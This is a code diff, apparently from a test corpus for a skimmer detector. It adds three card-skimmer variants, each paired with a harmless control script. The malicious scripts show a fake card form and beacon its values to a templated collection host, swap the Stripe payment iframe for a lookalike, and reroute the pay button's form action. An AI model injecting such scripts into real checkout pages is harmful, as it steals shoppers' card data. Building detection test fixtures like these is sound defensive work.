@@ -73,4 +73,35 @@ export const fakeForms: readonly SkimmerVariant[] = [
       script: `(() => { ${takeCode(honest)} const i = document.createElement('iframe'); i.src = '${cdn}/relay.html'; i.hidden = true; document.documentElement.append(i); function send() { i.contentWindow.postMessage(btoa(JSON.stringify(take())), '*'); } ${ON_PAY} })();`,
     }),
   },
+  {
+    id: 'error-then-real',
+    idea: 'fields of its own in place of the real ones; when they were sent, an error is shown and the real ones come back',
+    takes: ['card'],
+    build: ({ collect }, honest) => ({
+      script: honest
+        ? `addEventListener('load', () => { const real = document.querySelector('#card'); const note = document.createElement('p'); note.textContent = 'We take all cards.'; real.before(note); document.addEventListener('click', (e) => { if (e.target.closest('button')) navigator.sendBeacon('${collect}/x', 'pressed'); }, true); });`
+        : `addEventListener('load', () => { const real = document.querySelector('#card'); real.style.display = 'none'; const mine = document.createElement('div'); mine.innerHTML = '<input id="f1" placeholder="1234 1234 1234 1234" inputmode="numeric"><input id="f2" placeholder="MM / YY"><input id="f3" placeholder="CVC">'; real.before(mine); document.addEventListener('click', (e) => { if (!e.target.closest('button') || !mine.isConnected) return; navigator.sendBeacon('${collect}/x', btoa([...mine.querySelectorAll('input')].map((i) => i.value).join('|'))); e.preventDefault(); mine.remove(); real.style.display = ''; const p = document.createElement('p'); p.textContent = 'Your card was declined. Please try again.'; real.before(p); }, true); });`,
+    }),
+  },
+  {
+    id: 'provider-frame-replaced',
+    idea: 'the frame of the payment provider is taken out, and one that looks like it put in',
+    takes: ['card'],
+    named: ({ cdn }) => new URL(cdn).host,
+    build: ({ cdn, collect }, honest) => ({
+      files: { '/elements.html': { type: 'text/html', body: CARD_FORM(`${collect}/n`) } },
+      html: `<iframe id="psp" src="https://js.stripe.com/v3/elements-inner-card.html" style="width:320px;height:60px"></iframe>`,
+      script: honest
+        ? `setTimeout(() => { document.querySelector('#psp').style.height = '70px'; }, 400);`
+        : `setTimeout(() => { const old = document.querySelector('#psp'); const i = document.createElement('iframe'); i.src = '${cdn}/elements.html'; i.id = 'psp'; i.style.cssText = old.style.cssText; old.replaceWith(i); }, 400);`,
+    }),
+  },
+  {
+    id: 'button-action',
+    idea: 'the button is made to send the form elsewhere; the form itself stays as it is',
+    takes: ['card'],
+    build: ({ collect }, honest) => ({
+      script: `setTimeout(() => { document.querySelector('#pay button').formAction = ${honest ? `'/pay?step=2'` : `'${collect}/pay'`}; }, 400);`,
+    }),
+  },
 ];
